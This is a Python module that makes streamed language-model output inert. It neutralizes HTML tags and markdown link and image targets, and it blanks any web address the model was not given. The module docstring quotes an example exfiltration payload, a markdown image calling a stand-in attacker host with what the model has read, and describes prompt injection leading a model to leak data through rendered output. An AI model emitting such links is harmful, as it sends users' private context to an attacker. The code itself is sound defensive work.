"""What a model writes made plain text while it streams: nothing in it is fetched, followed or taken for markup.

A page that has a model print ![](https://evil.example/?all+it+has+read) would have every reader's browser carry that
away (OWASP's Top 10 for LLM Applications: LLM01, Prompt Injection, and LLM05, Improper Output Handling).
"""

import re
from collections.abc import Iterable

_ADDRESS = re.compile(r"(?:(?:https?|ftp)://|www\.(?=[a-z0-9]))[a-z0-9._~:/?#@!$&()*+,;=%-]*", re.IGNORECASE)
"""With the characters of RFC 3986, but for the apostrophe and square brackets, which end it here."""
_BEGINNINGS = frozenset(whole[:end] for whole in ("http://", "https://", "ftp://", "www.") for end in range(1, 9))
_LONGEST = 2000
"""Characters of an address that is waited for; none that is longer was in what was sent."""
_TRAILING = ".,;:!?)*_~"
"""Signs at the end of an address that belong to the sentence; a bracket is not worth telling apart."""
_TAG = re.compile(r"<(?=[A-Za-z/!?])")
_TARGET = re.compile(r"\](?=\()|(?<!\[\d)(?<!\[\d\d)(?<!\[\d\d\d)\](?=:)")
"""Where the target of a link or an image begins; a marker in front of a colon is none."""
_UNCERTAIN = re.compile(r"(?:<|\[\d{0,3}\]?|\])\Z")
_REMOVED = "…"


def addresses(texts: Iterable[str]) -> frozenset[str]:
    """The web addresses in texts, such as those that a model was sent."""
    return frozenset(found[0].rstrip(_TRAILING) for text in texts for found in _ADDRESS.finditer(text))


class Inert:
    """Makes the pieces of a model's text inert; what comes out joined is the same however the text is cut.

    `<` in front of a letter becomes `‹`, so that there are no tags and no forged markers; the target of a link or an
    image is set apart from its brackets, which makes both plain text; an address that is none of `known` becomes `…`.
    """

    def __init__(self, known: Iterable[str]) -> None:
        self._known = frozenset(known)
        self._held = ""

    def feed(self, piece: str) -> str:
        """What is certain after the next piece."""
        text = self._held + piece
        at = _certain(text)
        self._held = text[at:]
        if len(self._held) > _LONGEST:
            # Too long to be known: what stands in its middle does not matter.
            self._held = self._held[: _LONGEST // 2] + self._held[-_LONGEST // 2 :]
        return self._inert(text[:at])

    def close(self) -> str:
        """What was held back, once the text has ended."""
        text, self._held = self._held, ""
        return self._inert(text)

    def _inert(self, text: str) -> str:
        return _TARGET.sub("] ", _TAG.sub("‹", _ADDRESS.sub(self._known_or_removed, text)))

    def _known_or_removed(self, found: re.Match[str]) -> str:
        address = found[0].rstrip(_TRAILING)
        return (address if address in self._known else _REMOVED) + found[0][len(address) :]


def _certain(text: str) -> int:
    """How much of the text can't change its meaning by what follows."""
    at = _before_address(text)
    # What stands in front of an address that is held back depends on its first letter.
    uncertain = _UNCERTAIN.search(text, 0, at)
    return at if uncertain is None else uncertain.start()


def _before_address(text: str) -> int:
    """Where an address begins that may go on after the text; the text's end when there is none."""
    for found in _ADDRESS.finditer(text):
        if found.end() == len(text):
            return found.start()
    for length in range(min(8, len(text)), 0, -1):
        if text[-length:].lower() in _BEGINNINGS:
            return len(text) - length
    return len(text)
